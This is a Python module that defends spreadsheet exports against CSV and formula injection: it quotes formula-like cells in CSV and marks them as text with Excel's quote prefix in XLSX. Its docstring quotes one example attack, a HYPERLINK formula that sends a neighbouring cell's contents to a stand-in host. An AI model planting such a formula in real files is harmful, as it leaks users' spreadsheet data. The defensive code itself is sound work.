"""Text that a spreadsheet would run as a formula, made inert in the CSV and XLSX
files the application writes (OWASP, "CSV Injection").

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel and
LibreOffice (``-`` and ``+`` start arithmetic, ``@`` a function in old Excel and a
DDE call), and a leading tab or carriage return is dropped before that test, so an
address such as ``=HYPERLINK("http://x.invalid/?"&A2,"Klikk")`` typed into the API
would become a live link that sends the neighbouring cells away.

- **CSV** has no cell types, so such text gets a leading apostrophe, as OWASP
  advises: a spreadsheet shows it as text. :func:`csv_unquote` undoes it on import,
  so export → import → export is exact.
- **XLSX** has cell types: such text is written as a string cell (openpyxl makes a
  formula of any string that starts with ``=``) with Excel's ``quotePrefix`` style,
  the mark Excel itself stores when a user types a leading apostrophe, so the cell
  stays text even when edited. Its value is the original text, unchanged.

Numbers are numbers: an ``int``, ``float`` or ``Decimal`` (a floor of -1) is never
quoted, nor is text that is only a number (``-12``, ``+4,5``), which a spreadsheet
reads as that number and cannot be a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")
# The first characters worth a closer look: nearly every cell has none of them.
_SUSPECT_STARTS = frozenset((*FORMULA_STARTS, QUOTE))


def _formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def needs_quote(text: str) -> bool:
    """True for text a spreadsheet could run: one starting with a formula character,
    or with apostrophes before one (so that quoting stays reversible: ``'=x`` is
    written ``''=x`` and read back as ``'=x``)."""
    return _formula_like(text.lstrip(QUOTE))


def csv_value(value: Any) -> str:
    """A value as the text of a CSV cell: ``None`` as empty, numbers as written,
    formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in _SUSPECT_STARTS and needs_quote(value):
        return QUOTE + value
    return str(value)


def csv_unquote(text: str) -> str:
    """The text :func:`csv_value` quoted, as it was; any other text unchanged."""
    if text.startswith(QUOTE) and needs_quote(text[1:]):
        return text[1:]
    return text


def xlsx_value(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    """A value to append to a write-only ``sheet``: formula-like text as a string
    cell marked with Excel's quote prefix, anything else as it is."""
    if not isinstance(value, str) or not needs_quote(value):
        return value
    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_append(sheet: WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append a row of ``values`` to ``sheet``, formula-like text made inert."""
    sheet.append(
        [
            xlsx_value(sheet, value)
            if isinstance(value, str) and value[:1] in _SUSPECT_STARTS
            else value
            for value in values
        ]
    )
